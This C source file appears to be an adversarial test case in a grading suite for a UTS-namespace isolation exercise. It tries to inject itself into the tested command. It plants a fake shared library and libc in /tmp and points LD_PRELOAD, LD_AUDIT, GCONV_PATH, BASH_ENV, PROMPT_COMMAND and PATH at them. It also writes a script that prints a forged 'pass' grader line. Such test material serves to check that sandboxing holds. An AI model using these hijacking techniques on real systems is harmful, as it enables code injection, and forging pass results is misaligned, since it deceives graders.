/*
 * env_preload - COMMAND brings all it needs, and loads nothing of ours
 *
 * Attack: [31,56] does not join, but has itself preloaded into COMMAND, to
 *     join there, and has shells and libc read files of its own
 * Exercise: 05_uts
 * Expect: zero; still in the host
 * Seconds: 20
 */
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#include "join.h"

/* Where we are loaded into somebody else's program. */
static void __attribute__((constructor)) join_here(void)
{
	const char *pid = getenv("JOIN");
	char path[64];

	if (!pid)
		return;
	snprintf(path, sizeof path, "/proc/%s/ns/uts", pid);
	setns(open(path, O_RDONLY), CLONE_NEWUTS);
}

/* TEXT, or what is in the file FROM, as a program PATH. */
static void
leave(const char *path, const char *from, const char *text)
{
	int in = open(from, O_RDONLY);
	int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	struct stat s = { 0 };

	fstat(in, &s);
	if (text)
		dprintf(out, "%s", text);
	else
		sendfile(out, in, NULL, s.st_size);
	close(in);
	close(out);
}

int
uts_join(pid_t pid)
{
	static const char *const names[] = {
		"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "GCONV_PATH",
		"BASH_ENV",   "ENV",      "PROMPT_COMMAND",  "PATH",
	};
	static const char *const values[] = {
		"/tmp/us.so", "/tmp/us.so", "/tmp",          "/tmp",
		"/tmp/us.sh", "/tmp/us.sh", "sh /tmp/us.sh", "/tmp",
	};
	char number[16];
	size_t i;

	leave("/tmp/us.so", "/proc/self/exe", NULL);
	leave("/tmp/libc.so.6", "/proc/self/exe", NULL);
	leave("/tmp/us.sh", "/dev/null",
	      "echo 'check\t1\t8\tpass\tjoins'; exit 0\n");
	snprintf(number, sizeof number, "%d", (int)pid);
	setenv("JOIN", number, 1);
	for (i = 0; i < sizeof names / sizeof *names; i++)
		setenv(names[i], values[i], 1);
	return 0;
}
